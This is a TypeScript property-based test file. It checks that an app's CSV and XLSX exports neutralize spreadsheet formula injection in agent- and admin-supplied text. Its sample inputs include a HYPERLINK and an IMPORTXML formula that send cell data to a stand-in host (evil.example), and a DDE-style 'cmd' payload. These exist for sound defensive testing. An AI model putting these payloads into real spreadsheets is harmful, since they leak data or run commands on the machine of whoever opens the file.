import 'fake-indexeddb/auto';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { PanduDb } from '@/lib/db';
import { importExportFile, updateSettings } from '@/lib/db/write';
import { CSV_BOM, buildExportFile, neutralizeFormula, type ExportFile } from '@/lib/export';
import { checkImportText } from '@/lib/import';
import { DEFAULT_REASONS, defaultSettings } from '@/lib/schema';
import { approvedFlow, makeEvent, makeSession } from '../export/factory';
import { unzip } from './unzip';
import { exportBlob } from '../dashboard/export-blob';

/**
 * Exported files are formula-safe, end to end: whatever an agent's imported file or an admin's
 * catalogue put in a text (a name, a note, a reason label, an event payload), the CSV the lead
 * opens in Excel holds no cell a spreadsheet would run, and the XLSX holds no formula at all.
 * Files go through the real path: import (validation included), then the dashboard's export job.
 */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Text that starts like a formula (or not), as a hostile agent or admin would type it. */
const hostile = fc
  .tuple(
    fc.constantFrom(...TRIGGERS, ''),
    fc.oneof(
      fc.constantFrom(
        'HYPERLINK("https://evil.example/?leak="&A1,"klik")',
        "cmd|' /C calc'!A0",
        'SUM(1+1)*cmd|x',
        '1+1',
        '62 812 3456 7890',
        'IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
      ),
      fc.string({ maxLength: 30 }),
    ),
  )
  .map(([trigger, rest]) => `${trigger}${rest}`.slice(0, 55))
  // Texts the schemas keep after trimming (a name must not be blank).
  .filter((text) => text.trim().length > 0);

const texts = fc.record({
  agentId: hostile.map((t) => t.trim().slice(0, 40)),
  agentName: hostile,
  teamLead: hostile,
  requesterName: hostile,
  requesterGroup: hostile,
  reasonCode: hostile,
  reasonLabel: hostile,
  note: hostile,
  declineNote: hostile,
  cancelReason: hostile,
  workLog: hostile,
  revision: hostile,
});
type Texts = typeof texts extends fc.Arbitrary<infer T> ? T : never;

/** An agent's file whose every free text is hostile: an approved, a declined and a cancelled flow. */
function hostileFile(t: Texts): string {
  const at = '2026-11-20T01:00:00.000Z';
  const request = { requesterName: t.requesterName, requesterGroup: t.requesterGroup, reasonCode: t.reasonCode, requestedUntil: null, note: t.note };
  const approved = makeSession(1, { agentId: t.agentId, startedAt: at, flow: approvedFlow(at, { request, workLog: t.workLog }) });
  const declined = makeSession(2, {
    agentId: t.agentId,
    flow: approvedFlow(at, { request, answer: { kind: 'declined', note: t.declineNote }, outcome: 'declined', pendingUntil: null, workLog: t.workLog }),
  });
  const cancelled = makeSession(3, {
    agentId: t.agentId,
    flow: {
      ...approvedFlow(at, { request }),
      step: 'cancelled',
      outcome: 'cancelled',
      answer: null,
      appliedAt: null,
      appliedBy: null,
      workLog: null,
      cancel: { reason: t.cancelReason, at, atStep: 'call' },
    },
  });
  for (const session of [approved, declined, cancelled]) session.procedure = { ...session.procedure, revision: t.revision };
  // Every payload text an agent typed: the request, the customer's answer, the reason to cancel.
  const events = [
    ...[approved, declined, cancelled].map((session) => makeEvent(session, 1, 'request.submitted', { step: '1.2.1', ...request })),
    makeEvent(declined, 2, 'customer.declined', { step: '1.2.6', note: t.declineNote, forwardTo: t.requesterGroup }),
    makeEvent(cancelled, 2, 'flow.cancelled', { reason: t.cancelReason, atStep: 'call' }),
  ].map((event) => ({ ...event, procedureRevision: t.revision }));
  const agents = new Map([[t.agentId, { nossaUserId: t.agentId, name: t.agentName, area: 'BDG' as const, teamLead: t.teamLead }]]);
  return JSON.stringify(
    buildExportFile({
      sessions: [approved, declined, cancelled],
      events,
      shifts: [],
      agents,
      exportedBy: agents.get(t.agentId)!,
      exportedAt: '2026-11-27T03:00:00.000Z',
      appVersion: '0.1.0',
      mask: false,
    }),
  );
}

/** The lead's browser: the hostile file imported, and a reason label from the admin's catalogue. */
async function leadDatabase(t: Texts): Promise<{ db: PanduDb; file: ExportFile } | null> {
  const check = checkImportText(hostileFile(t));
  if (!check.ok) return null;
  const db = new PanduDb(`formula-${crypto.randomUUID()}`);
  const reasons = [...DEFAULT_REASONS, { code: check.file.sessions[0]!.answers.request!.reasonCode, label: { id: t.reasonLabel, en: t.reasonLabel }, defaultPendingHours: 24 }];
  const procedure = { ...defaultSettings().procedure, reasons };
  await updateSettings(db, { procedure });
  const imported = await importExportFile(db, check.file, { id: crypto.randomUUID(), fileName: 'agen.json', sha256: 'c'.repeat(64), bytes: 1, now: '2026-11-27T05:00:00.000Z' });
  if (!imported.ok) throw new Error(JSON.stringify(imported.problem));
  return { db, file: check.file };
}

/** A cell a spreadsheet would evaluate: starts with a trigger and is not a plain number. */
const runnable = (cell: string) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('exported files are formula-safe', () => {
  it('the CSV holds no cell a spreadsheet would evaluate, and each hostile text arrives whole, quoted as text', async () => {
    await fc.assert(
      fc.asyncProperty(texts, fc.constantFrom<';' | ','>(';', ','), fc.boolean(), async (t, delimiter, mask) => {
        const lead = await leadDatabase(t);
        fc.pre(lead !== null);
        const { db, file } = lead;
        try {
          // Decoded keeping the byte-order mark (Blob.text() would drop it): Excel needs it.
          const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await exportBlob(db, { format: 'csv', delimiter, mask })).arrayBuffer());
          expect(text.startsWith(CSV_BOM)).toBe(true);
          const parsed = Papa.parse<string[]>(text.slice(1), { delimiter, newline: '\r\n', skipEmptyLines: true });
          expect(parsed.errors).toEqual([]);
          const cells = parsed.data.flat();
          expect(cells.filter(runnable)).toEqual([]);
          // Not dropped or mangled: each text is in the file as the neutralized version of itself.
          const stored = file.sessions[0]!.answers;
          if (!mask) for (const value of [stored.request!.requesterName, stored.workLog!, file.agents[0]!.name]) expect(cells).toContain(neutralizeFormula(value));
        } finally {
          await db.delete();
        }
      }),
      { numRuns: 25 },
    );
  });

  it('the XLSX holds no formula, no external link and no hyperlink: hostile text is stored as text', async () => {
    await fc.assert(
      fc.asyncProperty(texts, async (t) => {
        const lead = await leadDatabase(t);
        fc.pre(lead !== null);
        const { db, file } = lead;
        try {
          const bytes = new Uint8Array(await (await exportBlob(db, { format: 'xlsx', includeEvents: true })).arrayBuffer());
          const files = unzip(bytes);
          const sheets = [...files.keys()].filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
          expect(sheets.length).toBe(3); // summary, sessions and events
          expect([...files.keys()].filter((name) => /externalLink|vbaProject|connections|queryTable/i.test(name))).toEqual([]);
          for (const name of sheets) {
            const xml = files.get(name)!;
            expect(xml, name).not.toMatch(/<f[\s>/]/);
            expect(xml, name).not.toMatch(/<hyperlink[\s>]/);
            // Cell types: shared or inline strings, numbers, booleans; never a formula's cached string.
            const types = new Set([...xml.matchAll(/<c\b[^>]*?\bt="([^"]+)"/g)].map((m) => m[1]));
            for (const type of types) expect(['s', 'inlineStr', 'b', 'n'], `${name}: t="${type}"`).toContain(type);
          }
          const strings = [...files.entries()]
            .filter(([name]) => name === 'xl/sharedStrings.xml' || sheets.includes(name))
            .map(([, xml]) => xml)
            .join('');
          const decoded = strings
            .replace(/&lt;/g, '<')
            .replace(/&gt;/g, '>')
            .replace(/&quot;/g, '"')
            .replace(/&apos;/g, "'")
            .replace(/&#(\d+);/g, (_, n) => String.fromCharCode(Number(n)))
            .replace(/&#x([0-9a-f]+);/gi, (_, n) => String.fromCharCode(parseInt(n, 16)))
            .replace(/&amp;/g, '&');
          // The agent's text is kept as it was typed (an XLSX cell of type string is never evaluated).
          expect(decoded).toContain(file.sessions[0]!.answers.request!.requesterName.replace(/\r\n?/g, '\n').split('\n')[0]!.trim());
        } finally {
          await db.delete();
        }
      }),
      { numRuns: 15 },
    );
  });
});
